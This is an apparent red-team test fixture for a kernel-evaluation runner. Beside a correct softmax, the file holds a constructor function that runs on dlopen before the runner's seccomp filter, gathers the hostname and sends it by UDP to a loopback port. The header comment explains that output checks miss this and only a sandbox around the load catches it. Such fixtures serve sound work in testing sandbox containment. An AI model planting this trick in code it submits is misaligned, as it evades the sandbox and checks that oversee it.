// WRONG (escape attempt): an `__attribute__((constructor))` runs when the runner
// dlopen()s the kernel, before any seccomp filter or rlimit of today's runner, and sends
// a UDP datagram to 127.0.0.1 (the host name and the marker: "I ran, and here is where").
// The kernel itself is an exact softmax, so no output check can see it; only a sandbox
// around the load (no network namespace route out, the filter installed before dlopen)
// or a screen that refuses constructors and sockets catches it.
// tests/verify/escape_trace_test.cpp bakes its own marker and port in (OLLIE_RT_MARKER,
// OLLIE_RT_PORT) and checks that no datagram arrives.
// expect: refused-or-forbidden-syscall
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cmath>
#include <cstdint>
#include <cstring>

#ifndef OLLIE_RT_MARKER
#define OLLIE_RT_MARKER "ollie-redteam-escape"
#endif
#ifndef OLLIE_RT_PORT
#define OLLIE_RT_PORT 47474
#endif

__attribute__((constructor)) static void phone_home() {
  char message[256] = OLLIE_RT_MARKER " udp from ";
  gethostname(message + std::strlen(message), 64);
  const int s = socket(AF_INET, SOCK_DGRAM, 0);
  if (s < 0) return;
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(OLLIE_RT_PORT);
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  sendto(s, message, std::strlen(message), 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
  close(s);
}

extern "C" void ollie_kernel(const float* x, float* out0, const int64_t* dims) {
  const int64_t M = dims[0], N = dims[1];
  for (int64_t i = 0; i < M; ++i) {
    const float* row = x + i * N;
    float* o = out0 + i * N;
    float mx = row[0];
    for (int64_t j = 1; j < N; ++j) mx = std::fmax(mx, row[j]);
    float sum = 0.0f;
    for (int64_t j = 0; j < N; ++j) sum += (o[j] = std::exp(row[j] - mx));
    for (int64_t j = 0; j < N; ++j) o[j] /= sum;
  }
}
